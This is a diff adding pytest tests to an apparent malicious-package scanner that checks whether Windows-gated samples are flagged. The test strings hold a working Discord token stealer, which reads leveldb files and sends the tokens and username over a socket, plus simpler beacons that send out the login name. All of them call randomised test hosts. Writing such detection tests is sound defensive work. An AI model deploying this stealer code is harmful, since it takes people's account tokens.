@@ -251,3 +251,80 @@ def test_setup_py_gated_on_windows_runs_in_the_windows_pass_on_a_static_hint(tmp
     assert beacon and {e.pass_name for e in beacon} == {"windows"}
     assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
     assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)
+
+
+def test_stealer_using_getlogin_and_hidden_window_flags_is_caught_in_the_windows_pass(tmp_path: Path) -> None:
+    """`from subprocess import CREATE_NO_WINDOW` and `C:\\Users\\{os.getlogin()}\\…`: the
+    first stops it on Linux (and fires the pass), the second needs a terminal there;
+    Windows has both, so the pass's stealer reads the token and sends it."""
+    r = Randomised()
+    host, port = r.address(), r.port()
+    src = textwrap.dedent(f"""\
+        import json, os, re, socket, subprocess
+        from subprocess import CREATE_NO_WINDOW, STARTUPINFO, STARTF_USESHOWWINDOW
+
+        si = STARTUPINFO()
+        si.dwFlags |= STARTF_USESHOWWINDOW
+        user = os.getlogin()
+        path = f"C:\\\\Users\\\\{{user}}\\\\AppData\\\\Roaming\\\\discord\\\\Local Storage\\\\leveldb"
+        found = []
+        for name in os.listdir(path):
+            if name.endswith((".ldb", ".log")):
+                text = open(os.path.join(path, name), errors="ignore").read()
+                found += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{25,110}}", text)
+        body = json.dumps({{"t": found, "u": user}}).encode()
+        s = socket.create_connection(({host!r}, {port}), timeout=5)
+        s.sendall(b"POST /c HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: "
+                  + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+        s.close()
+        print("FACTS " + json.dumps({{"tokens": len(found), "flags": CREATE_NO_WINDOW}}))
+        """)
+    report = _vet(tmp_path, r.name("hidewin"), src)
+    win_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == "windows")
+    assert "CREATE_NO_WINDOW" in win_import.pass_note, win_import.pass_note
+    assert _facts(report, "windows")["tokens"] == 1
+    assert report.verdict is Verdict.MALICIOUS
+    ps010 = [f for f in report.findings if f.rule_id == "PS010"]
+    assert ps010 and all(f.pass_name == "windows" for f in ps010)
+
+
+def test_getlogin_failing_on_linux_fires_the_windows_pass(tmp_path: Path) -> None:
+    """Linux without a terminal refuses os.getlogin() (ENXIO): the pass answers it."""
+    r = Randomised()
+    host, port = r.address(), r.port()
+    src = textwrap.dedent(f"""\
+        import json, os, socket
+        user = os.getlogin()
+        s = socket.create_connection(({host!r}, {port}), timeout=5)
+        s.sendall(("GET /u/" + user + " HTTP/1.1\\r\\nHost: x.invalid\\r\\n\\r\\n").encode())
+        s.close()
+        print("FACTS " + json.dumps({{"user": user}}))
+        """)
+    report = _vet(tmp_path, r.name("whoami"), src)
+    win_import = next(p for p in report.phases if p.phase is Phase.IMPORT and p.pass_name == "windows")
+    assert "No such device or address" in win_import.pass_note, win_import.pass_note
+    assert _facts(report, "windows")["user"]
+    assert report.verdict is Verdict.MALICIOUS
+    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)
+
+
+def test_installed_module_gated_on_windows_sees_windows_in_the_pass(tmp_path: Path) -> None:
+    """The candidate's own installed modules are shown Windows (os.name, sys.platform,
+    platform.system()), not only its setup.py: in a venv the library's platstdlib holds
+    site-packages, and a module gated on `os.name == "nt"` stayed dormant there."""
+    r = Randomised()
+    host, port = r.address(), r.port()
+    src = textwrap.dedent(f"""\
+        import json, os, platform, socket, sys
+        from ctypes import windll  # the default pass stops here; it fires the Windows pass
+        seen = [os.name, sys.platform, platform.system()]
+        if os.name == "nt" and sys.platform == "win32" and platform.system() == "Windows":
+            s = socket.create_connection(({host!r}, {port}), timeout=5)
+            s.sendall(b"GET /nt HTTP/1.1\\r\\nHost: x.invalid\\r\\n\\r\\n")
+            s.close()
+        print("FACTS " + json.dumps({{"seen": seen}}))
+        """)
+    report = _vet(tmp_path, r.name("gated"), src)
+    assert _facts(report, "windows")["seen"] == ["nt", "win32", "Windows"]
+    assert report.verdict is Verdict.MALICIOUS
+    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)
